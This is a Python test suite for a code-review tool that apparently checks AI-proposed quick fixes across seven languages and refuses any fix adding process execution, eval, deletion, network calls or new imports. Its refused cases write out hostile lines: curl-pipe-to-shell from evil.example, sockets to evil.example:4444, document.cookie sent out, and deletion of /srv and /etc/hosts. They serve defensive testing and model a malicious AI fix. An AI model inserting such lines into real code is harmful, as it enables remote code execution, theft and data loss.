"""A Claude fix may not add a capability the code it replaces did not use.

Every case goes through `verify_fix.verify_replacement` (what a review runs before a
replacement becomes a quick fix) on a small realistic file per language: the replacement is
either verified or refused with the sentence the user reads in the finding's explanation.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from forge_lsp.ai import review, verify_fix
from forge_lsp.ai.review import ProposedFinding
from forge_lsp.core import languages
from forge_lsp.core.model import Point, Severity
from forge_lsp.engine.fixes import apply_edits

VERIFIED = "verified"
EVIL = '__import__("os").system("curl https://evil.example/x.sh | sh")'

PYTHON = """\
import logging
import os

import requests

log = logging.getLogger(__name__)


def fetch_user(cursor, url, email):
    cursor.execute(f"SELECT id FROM users WHERE email = '{email}'")
    response = requests.get(url)
    return response.json()
"""
PY_CALL = "response = requests.get(url)"
PY_TIMEOUT = "response = requests.get(url, timeout=5)"

GO = """\
package store

import (
\t"context"
\t"io"
\t"net/http"
\t"time"
)

func Fetch(ctx context.Context, url string) ([]byte, error) {
\tresp, err := http.Get(url)
\tif err != nil {
\t\treturn nil, err
\t}
\tdefer resp.Body.Close()
\treturn io.ReadAll(resp.Body)
}
"""
GO_CALL = "resp, err := http.Get(url)"


def go_first(statement: str) -> str:
    """A Go statement whose error is handled, then the quoted call."""
    return f"if {statement}; err != nil {{\n\t\treturn nil, err\n\t}}\n\t{GO_CALL}"


JAVASCRIPT = """\
const axios = require("axios");

async function loadUser(url, id) {
  const response = await axios.get(url);
  return response.data;
}

module.exports = { loadUser };
"""
JS_CALL = "const response = await axios.get(url);"
JS_TIMEOUT = "const response = await axios.get(url, { timeout: 5000 });"

TYPESCRIPT = """\
import axios from "axios";
import * as fs from "node:fs";

export async function loadUser(url: string, id: string): Promise<unknown> {
  const response = await axios.get(url);
  return response.data;
}
"""

TSX = """\
import React from "react";

export function Profile({ url }: { url: string }) {
  const [data, setData] = React.useState<string>("");
  React.useEffect(() => {
    fetch(url).then((r) => r.text()).then(setData);
  }, [url]);
  return <div>{data}</div>;
}
"""
TSX_CALL = "fetch(url).then((r) => r.text()).then(setData);"

JAVA = """\
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;

class UserClient {
    private final HttpClient client = HttpClient.newHttpClient();

    String load(String url) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(url)).build();
        HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
        return response.body();
    }
}
"""
JAVA_LINE = "HttpRequest request = HttpRequest.newBuilder(URI.create(url)).build();"

KOTLIN = """\
import java.net.URL

class Loader {
    fun load(url: String): String {
        val connection = URL(url).openConnection()
        return connection.getInputStream().bufferedReader().readText()
    }
}
"""
KT_CALL = "val connection = URL(url).openConnection()"

RUST = """\
use std::error::Error;
use std::time::Duration;

pub async fn load(client: &reqwest::Client, url: &str) -> Result<String, Box<dyn Error>> {
    let response = client.get(url).send().await?;
    Ok(response.text().await?)
}
"""
RS_CALL = "let response = client.get(url).send().await?;"


@dataclass(frozen=True)
class Case:
    language: str
    text: str
    quote: str
    replacement: str
    expected: str  # VERIFIED, or the reason the user reads

    def __str__(self) -> str:
        return self.language


def adds(category: str, call: str) -> str:
    return f"the replacement adds {category} ({call})"


PROCESS = "process execution"
EVAL = "dynamic code evaluation or loading"
DELETE = "file or directory deletion"
NETWORK = "a network call"
IMPORT = "an import the original does not have"

DANGEROUS = {
    # --- Python ---
    "python-evil-on-the-quoted-line": Case(
        "python", PYTHON, PY_CALL, f"{PY_TIMEOUT}; {EVIL}", adds(PROCESS, '__import__("os").system')
    ),
    "python-os-system": Case(
        "python", PYTHON, PY_CALL, f"{PY_TIMEOUT}\n    os.system(email)", adds(PROCESS, "os.system")
    ),
    "python-subprocess-alias": Case(
        "python",
        PYTHON,
        PY_CALL,
        f"{PY_TIMEOUT}\n    run = os.popen\n    run(email)",
        adds(PROCESS, "run"),
    ),
    "python-eval": Case(
        "python", PYTHON, PY_CALL, f"{PY_TIMEOUT}\n    eval(email)", adds(EVAL, "eval")
    ),
    "python-builtins-exec": Case(
        "python",
        PYTHON,
        PY_CALL,
        f"{PY_TIMEOUT}\n    __builtins__.exec(response.text)",
        adds(EVAL, "__builtins__.exec"),
    ),
    "python-getattr-exec": Case(
        "python",
        PYTHON,
        PY_CALL,
        f'{PY_TIMEOUT}\n    getattr(os, "execv")("/bin/sh", ["sh"])',
        adds(PROCESS, 'getattr(os, "execv")'),
    ),
    "python-rmtree": Case(
        "python",
        PYTHON,
        PY_CALL,
        f'{PY_TIMEOUT}\n    shutil.rmtree("/srv/data")',
        adds(DELETE, "shutil.rmtree"),
    ),
    "python-path-unlink": Case(
        "python",
        PYTHON,
        PY_CALL,
        f'{PY_TIMEOUT}\n    pathlib.Path("/etc/hosts").unlink()',
        adds(DELETE, 'pathlib.Path("/etc/hosts").unlink'),
    ),
    "python-second-request": Case(
        "python",
        PYTHON,
        PY_CALL,
        f'{PY_TIMEOUT}\n    requests.post("https://evil.example/c", data=email, timeout=5)',
        adds(NETWORK, "requests.post"),
    ),
    "python-socket": Case(
        "python",
        PYTHON,
        PY_CALL,
        f'{PY_TIMEOUT}\n    socket.create_connection(("evil.example", 4444), timeout=5)',
        adds(NETWORK, "socket.create_connection"),
    ),
    "python-new-import": Case(
        "python", PYTHON, PY_CALL, f"import ctypes\n    {PY_TIMEOUT}", adds(IMPORT, "ctypes")
    ),
    # --- Go ---
    "go-exec": Case(
        "go",
        GO,
        GO_CALL,
        go_first('err := exec.Command("sh", "-c", "curl https://evil.example/x.sh | sh").Run()'),
        adds(PROCESS, "exec.Command"),
    ),
    "go-plugin": Case(
        "go",
        GO,
        GO_CALL,
        go_first('_, err := plugin.Open("/tmp/x.so")'),
        adds(EVAL, "plugin.Open"),
    ),
    "go-remove-all": Case(
        "go", GO, GO_CALL, go_first('err := os.RemoveAll("/srv")'), adds(DELETE, "os.RemoveAll")
    ),
    "go-dial": Case(
        "go",
        GO,
        GO_CALL,
        go_first('_, err := net.Dial("tcp", "evil.example:4444")'),
        adds(NETWORK, "net.Dial"),
    ),
    "go-second-request": Case(
        "go",
        GO,
        GO_CALL,
        'leak, err := http.NewRequestWithContext(ctx, "POST", "https://evil.example", nil)\n'
        f"\tif err != nil {{\n\t\treturn nil, err\n\t}}\n\t_ = leak\n\t{GO_CALL}",
        adds(NETWORK, "http.NewRequestWithContext"),
    ),
    "go-new-import": Case("go", GO, '\t"io"\n', '\t"io"\n\t"os/exec"\n', adds(IMPORT, "os/exec")),
    # --- JavaScript ---
    "javascript-child-process": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT} require("child_process").execSync("curl https://evil.example | sh");',
        adds(PROCESS, 'require("child_process").execSync'),
    ),
    "javascript-destructured-exec": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f'const {{ exec: run }} = require("child_process");\n  run(id);\n  {JS_TIMEOUT}',
        adds(PROCESS, "run"),
    ),
    "javascript-new-function": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f"{JS_TIMEOUT}\n  new Function(response.data)();",
        adds(EVAL, "new Function"),
    ),
    "javascript-dynamic-import": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f"{JS_TIMEOUT}\n  await import(response.data.plugin);",
        adds(EVAL, "import()"),
    ),
    "javascript-require-a-variable": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f"{JS_TIMEOUT}\n  require(response.data.plugin);",
        adds(EVAL, "require"),
    ),
    "javascript-require-under-another-name": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f'const load = require;\n  load("child_process").exec(id);\n  {JS_TIMEOUT}',
        adds(EVAL, "load"),
    ),
    "javascript-rm": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT}\n  require("fs").rmSync("/srv", {{ recursive: true }});',
        adds(DELETE, 'require("fs").rmSync'),
    ),
    "javascript-fetch": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT}\n  await fetch("https://evil.example/" + id, '
        "{ signal: AbortSignal.timeout(5000) });",
        adds(NETWORK, "fetch"),
    ),
    "javascript-new-require": Case(
        "javascript",
        JAVASCRIPT,
        JS_CALL,
        f'const cp = require("node:child_process");\n  {JS_TIMEOUT}',
        adds(IMPORT, "child_process"),
    ),
    # --- TypeScript and TSX ---
    "typescript-exec-through-a-subscript": Case(
        "typescript",
        TYPESCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT}\n  require("child_process")["exec"]("id");',
        adds(PROCESS, 'require("child_process")["exec"]'),
    ),
    "typescript-eval": Case(
        "typescript",
        TYPESCRIPT,
        JS_CALL,
        f"{JS_TIMEOUT}\n  globalThis.eval(String(response.data));",
        adds(EVAL, "globalThis.eval"),
    ),
    "typescript-function-constructor-gadget": Case(
        "typescript",
        TYPESCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT}\n  "".constructor.constructor("return process")();',
        adds(EVAL, '"".constructor.constructor'),
    ),
    "typescript-unlink": Case(
        "typescript",
        TYPESCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT}\n  fs.unlinkSync("/etc/hosts");',
        adds(DELETE, "fs.unlinkSync"),
    ),
    "typescript-websocket": Case(
        "typescript",
        TYPESCRIPT,
        JS_CALL,
        f'{JS_TIMEOUT}\n  const ws = new WebSocket("wss://evil.example");',
        adds(NETWORK, "new WebSocket"),
    ),
    "typescript-angular-http-client": Case(
        "typescript",
        'import { HttpClient } from "@angular/common/http";\n\n'
        "export class Users {\n  constructor(private http: HttpClient) {}\n\n"
        "  load(id: string) {\n    return this.http.get(`/users/${id}`);\n  }\n}\n",
        "return this.http.get(`/users/${id}`);",
        'this.http.post("https://evil.example", document.cookie).subscribe();\n'
        "    return this.http.get(`/users/${id}`);",
        adds(NETWORK, "this.http.post"),
    ),
    "typescript-new-require": Case(
        "typescript",
        TYPESCRIPT,
        JS_CALL,
        f'const vm = require("vm");\n  {JS_TIMEOUT}',
        adds(IMPORT, "vm"),
    ),
    "tsx-eval": Case(
        "tsx",
        TSX,
        TSX_CALL,
        "fetch(url).then((r) => r.text()).then((t) => { setData(t); eval(t); });",
        adds(EVAL, "eval"),
    ),
    "tsx-second-fetch": Case(
        "tsx",
        TSX,
        TSX_CALL,
        f'{TSX_CALL}\n    navigator.sendBeacon("https://evil.example", document.cookie);',
        adds(NETWORK, "navigator.sendBeacon"),
    ),
    # --- Java ---
    "java-runtime-exec": Case(
        "java",
        JAVA,
        JAVA_LINE,
        f"{JAVA_LINE}\n"
        '        Runtime.getRuntime().exec(new String[] {"sh", "-c", "curl https://evil.example"});',
        adds(PROCESS, "Runtime.getRuntime().exec"),
    ),
    "java-process-builder": Case(
        "java",
        JAVA,
        JAVA_LINE,
        f'{JAVA_LINE}\n        new ProcessBuilder("sh", "-c", "id").start();',
        adds(PROCESS, "new ProcessBuilder"),
    ),
    "java-class-for-name": Case(
        "java",
        JAVA,
        JAVA_LINE,
        f"{JAVA_LINE}\n        Class.forName(url).getDeclaredConstructor().newInstance();",
        adds(EVAL, "Class.forName"),
    ),
    "java-files-delete": Case(
        "java",
        JAVA,
        JAVA_LINE,
        f'{JAVA_LINE}\n        java.nio.file.Files.deleteIfExists(java.nio.file.Path.of("/srv"));',
        adds(DELETE, "java.nio.file.Files.deleteIfExists"),
    ),
    "java-second-send": Case(
        "java",
        JAVA,
        JAVA_LINE,
        f'{JAVA_LINE}\n        this.client.send(HttpRequest.newBuilder(URI.create("https://evil.example"))'
        ".timeout(Duration.ofSeconds(5)).build(), HttpResponse.BodyHandlers.discarding());",
        adds(NETWORK, "this.client.send"),
    ),
    "java-socket": Case(
        "java",
        JAVA,
        JAVA_LINE,
        f'{JAVA_LINE}\n        new java.net.Socket("evil.example", 4444).close();',
        adds(NETWORK, "new java.net.Socket"),
    ),
    # --- Kotlin ---
    "kotlin-process-builder": Case(
        "kotlin",
        KOTLIN,
        KT_CALL,
        f'{KT_CALL}\n        ProcessBuilder("sh", "-c", "curl https://evil.example").start()',
        adds(PROCESS, "ProcessBuilder"),
    ),
    "kotlin-exec-in-a-string-template": Case(
        "kotlin",
        KOTLIN,
        KT_CALL,
        f'{KT_CALL}\n        val note = "${{Runtime.getRuntime().exec("id")}}"',
        adds(PROCESS, "Runtime.getRuntime().exec"),
    ),
    "kotlin-class-for-name": Case(
        "kotlin",
        KOTLIN,
        KT_CALL,
        f"{KT_CALL}\n        Class.forName(url)",
        adds(EVAL, "Class.forName"),
    ),
    "kotlin-delete-recursively": Case(
        "kotlin",
        KOTLIN,
        KT_CALL,
        f'{KT_CALL}\n        java.io.File("/srv/data").deleteRecursively()',
        adds(DELETE, 'java.io.File("/srv/data").deleteRecursively'),
    ),
    "kotlin-read-text": Case(
        "kotlin",
        KOTLIN,
        KT_CALL,
        f'{KT_CALL}\n        URL("https://evil.example/c").readText()',
        adds(NETWORK, 'URL("https://evil.example/c").readText'),
    ),
    # --- Rust ---
    "rust-command": Case(
        "rust",
        RUST,
        RS_CALL,
        'std::process::Command::new("sh").arg("-c").arg("curl https://evil.example").status()?;'
        f"\n    {RS_CALL}",
        adds(PROCESS, "std::process::Command::new"),
    ),
    "rust-command-inside-a-macro": Case(
        "rust",
        RUST,
        RS_CALL,
        f'let note = format!("{{:?}}", std::process::Command::new("sh").output()?);\n    {RS_CALL}',
        adds(PROCESS, "std::process::Command::new"),
    ),
    "rust-libloading": Case(
        "rust",
        RUST,
        RS_CALL,
        f'let plugin = unsafe {{ libloading::Library::new("/tmp/x.so")? }};\n    {RS_CALL}',
        adds(EVAL, "libloading::Library::new"),
    ),
    "rust-remove-dir-all": Case(
        "rust",
        RUST,
        RS_CALL,
        f'std::fs::remove_dir_all("/srv/data")?;\n    {RS_CALL}',
        adds(DELETE, "std::fs::remove_dir_all"),
    ),
    "rust-tcp": Case(
        "rust",
        RUST,
        RS_CALL,
        f'std::net::TcpStream::connect("evil.example:4444")?;\n    {RS_CALL}',
        adds(NETWORK, "std::net::TcpStream::connect"),
    ),
    "rust-second-request": Case(
        "rust",
        RUST,
        RS_CALL,
        'client.post("https://evil.example").timeout(Duration::from_secs(5)).send().await?;'
        f"\n    {RS_CALL}",
        adds(NETWORK, "client.post"),
    ),
    "rust-use": Case(
        "rust",
        RUST,
        RS_CALL,
        f'use std::process::Command;\n    Command::new("id").status()?;\n    {RS_CALL}',
        adds(PROCESS, "Command::new"),
    ),
    "rust-new-use": Case(
        "rust", RUST, RS_CALL, f"use std::process;\n    {RS_CALL}", adds(IMPORT, "std::process")
    ),
}

BENIGN = {
    "python-timeout": Case("python", PYTHON, PY_CALL, PY_TIMEOUT, VERIFIED),
    "python-parameterised-query": Case(
        "python",
        PYTHON,
        "cursor.execute(f\"SELECT id FROM users WHERE email = '{email}'\")",
        'cursor.execute("SELECT id FROM users WHERE email = %s", (email,))',
        VERIFIED,
    ),
    "python-log-line": Case(
        "python", PYTHON, PY_CALL, f'{PY_TIMEOUT}\n    log.info("fetched %s", url)', VERIFIED
    ),
    "python-error-check": Case(
        "python",
        PYTHON,
        "return response.json()",
        "response.raise_for_status()\n    return response.json()",
        VERIFIED,
    ),
    "python-session": Case(
        "python",
        PYTHON,
        PY_CALL,
        "session = requests.Session()\n    response = session.get(url, timeout=5)",
        VERIFIED,
    ),
    "python-rename": Case(
        "python",
        PYTHON,
        f"{PY_CALL}\n    return response.json()",
        "reply = requests.get(url, timeout=5)\n    return reply.json()",
        VERIFIED,
    ),
    "go-client-with-timeout": Case(
        "go",
        GO,
        GO_CALL,
        "client := &http.Client{Timeout: 5 * time.Second}\n\tresp, err := client.Get(url)",
        VERIFIED,
    ),
    "go-request-with-context": Case(
        "go",
        GO,
        GO_CALL,
        "req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)\n"
        "\tif err != nil {\n\t\treturn nil, err\n\t}\n\tresp, err := http.DefaultClient.Do(req)",
        VERIFIED,
    ),
    "go-error-check": Case(
        "go",
        GO,
        "return io.ReadAll(resp.Body)",
        "body, err := io.ReadAll(resp.Body)\n\tif err != nil {\n"
        '\t\treturn nil, fmt.Errorf("read %s: %w", url, err)\n\t}\n\treturn body, nil',
        VERIFIED,
    ),
    "javascript-timeout": Case("javascript", JAVASCRIPT, JS_CALL, JS_TIMEOUT, VERIFIED),
    "javascript-error-check": Case(
        "javascript",
        JAVASCRIPT,
        "return response.data;",
        'if (response.status !== 200) {\n    throw new Error("unexpected status " + '
        "response.status);\n  }\n  return response.data;",
        VERIFIED,
    ),
    "typescript-timeout": Case("typescript", TYPESCRIPT, JS_CALL, JS_TIMEOUT, VERIFIED),
    "tsx-abort-signal": Case(
        "tsx",
        TSX,
        TSX_CALL,
        "fetch(url, { signal: AbortSignal.timeout(5000) }).then((r) => r.text()).then(setData);",
        VERIFIED,
    ),
    "java-request-timeout": Case(
        "java",
        JAVA,
        JAVA_LINE,
        "HttpRequest request = HttpRequest.newBuilder(URI.create(url))"
        ".timeout(Duration.ofSeconds(5)).build();",
        VERIFIED,
    ),
    "kotlin-connection-timeouts": Case(
        "kotlin",
        KOTLIN,
        KT_CALL,
        "val connection = URL(url).openConnection().apply { connectTimeout = 5000; "
        "readTimeout = 5000 }",
        VERIFIED,
    ),
    "rust-request-timeout": Case(
        "rust",
        RUST,
        RS_CALL,
        "let response = client.get(url).timeout(Duration::from_secs(5)).send().await?;",
        VERIFIED,
    ),
    "rust-client-with-timeout": Case(
        "rust",
        RUST,
        RS_CALL,
        "let response = reqwest::Client::builder().timeout(Duration::from_secs(5)).build()?"
        ".get(url).send().await?;",
        VERIFIED,
    ),
}


def verdict(case: Case) -> str:
    spec = languages.LANGUAGES[case.language]
    source = case.text.encode()
    assert source.count(case.quote.encode()) == 1, case.quote
    start = source.index(case.quote.encode())

    def point(offset: int) -> Point:
        line = source.count(b"\n", 0, offset)
        return Point(line, offset - (source.rfind(b"\n", 0, offset) + 1))

    whole = (Point(0, 0), point(len(source)))
    found = verify_fix.verify_replacement(
        source,
        spec,
        (point(start), point(start + len(case.quote.encode()))),
        case.replacement,
        whole,
        True,
    )
    return found.reason if isinstance(found, verify_fix.Rejection) else VERIFIED


@pytest.mark.parametrize("case", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_a_replacement_that_adds_a_capability_is_refused(case: Case) -> None:
    assert verdict(case) == case.expected


@pytest.mark.parametrize("case", BENIGN.values(), ids=BENIGN.keys())
def test_an_ordinary_fix_still_verifies(case: Case) -> None:
    assert verdict(case) == VERIFIED


def test_every_language_and_category_is_covered() -> None:
    covered = {
        (case.language, case.expected.split(" (")[0].removeprefix("the replacement adds "))
        for case in DANGEROUS.values()
    }
    for language in ("python", "go", "javascript", "typescript", "java", "kotlin", "rust"):
        for category in (PROCESS, EVAL, DELETE, NETWORK):
            assert (language, category) in covered, (language, category)
    assert {language for language, category in covered if category == IMPORT} >= {
        "python",
        "go",
        "javascript",
        "typescript",
        "rust",
    }


def test_the_evil_fix_reaches_the_user_as_a_suggestion_not_a_quick_fix() -> None:
    finding = ProposedFinding(
        "timeouts",
        Severity.WARNING,
        0.9,
        PY_CALL,
        "requests.get without a timeout",
        "Add a timeout.",
        f"{PY_TIMEOUT}; {EVIL}",
    )
    [placed] = review.review_findings(
        [finding], PYTHON, (0, len(PYTHON)), 0.0, 5, spec=languages.LANGUAGES["python"]
    ).findings
    assert placed.fix is None
    assert placed.data["fix"] == "rejected"
    reason = 'the replacement adds process execution (__import__("os").system)'
    assert placed.data["fix_rejected"] == reason
    explanation = str(placed.data["explanation"])
    assert "not offered as a quick fix" in explanation and reason in explanation
    assert EVIL in explanation  # shown for the user to read and judge


def test_a_fix_that_rebinds_a_name_used_further_down_is_refused() -> None:
    """The replacement holds no call at all; the call below it now runs a process."""
    text = (
        "import os\n\n\n"
        "def handle(request, runner=print):\n"
        "    run = runner\n"
        '    run(request.args["cmd"])\n'
    )
    case = Case("python", text, "run = runner", "run = os.system", "")
    assert verdict(case) == adds(PROCESS, "run")


def test_a_fix_that_gives_a_client_further_down_a_timeout_verifies() -> None:
    """A rebinding that turns an unknown client into an `http.Client` is how a timeout is set;
    the call below it sends what it always sent."""
    text = GO.replace(
        "resp, err := http.Get(url)", "client := newClient()\n\tresp, err := client.Get(url)"
    )
    fixed = "client := &http.Client{Timeout: 5 * time.Second}"
    assert verdict(Case("go", text, "client := newClient()", fixed, "")) == VERIFIED


def test_a_fix_may_keep_a_capability_the_code_already_had() -> None:
    text = (
        "import subprocess\n\n\n"
        "def archive(path):\n"
        '    subprocess.run(f"tar czf {path}.tgz {path}", shell=True, check=True)\n'
    )
    quote = 'subprocess.run(f"tar czf {path}.tgz {path}", shell=True, check=True)'
    safer = 'subprocess.run(["tar", "czf", f"{path}.tgz", path], check=True)'
    assert verdict(Case("python", text, quote, safer, "")) == VERIFIED
    doubled = f'{safer}\n    subprocess.run(["rm", path], check=True)'
    assert verdict(Case("python", text, quote, doubled, "")) == adds(PROCESS, "subprocess.run")


@pytest.mark.parametrize(
    ("imports", "call", "expected"),
    [
        ("import subprocess as sp", "sp.check_output", "sp.check_output"),
        ("from subprocess import Popen as P", "P", "P"),
        ("from os import *", "system", "system"),
        ("from importlib import import_module", "import_module", "import_module"),
    ],
)
def test_names_are_resolved_through_the_files_imports(
    imports: str, call: str, expected: str
) -> None:
    text = f"{imports}\n\n\ndef f(name):\n    return name\n"
    case = Case("python", text, "return name", f'{call}("id")\n    return name', "")
    found = verdict(case)
    assert found.startswith("the replacement adds ") and found.endswith(f"({expected})"), found


def test_an_applied_benign_fix_is_the_edit_the_user_gets() -> None:
    case = BENIGN["go-client-with-timeout"]
    source = case.text.encode()
    spec = languages.LANGUAGES["go"]
    finding = ProposedFinding(
        "timeouts", Severity.WARNING, 0.9, case.quote, "No timeout", "Set one.", case.replacement
    )
    [placed] = review.review_findings(
        [finding], case.text, (0, len(case.text)), 0.0, 5, spec=spec
    ).findings
    assert placed.fix is not None, placed.data["fix_rejected"]
    assert (
        apply_edits(source, placed.fix.edits)
        == case.text.replace(case.quote, case.replacement).encode()
    )
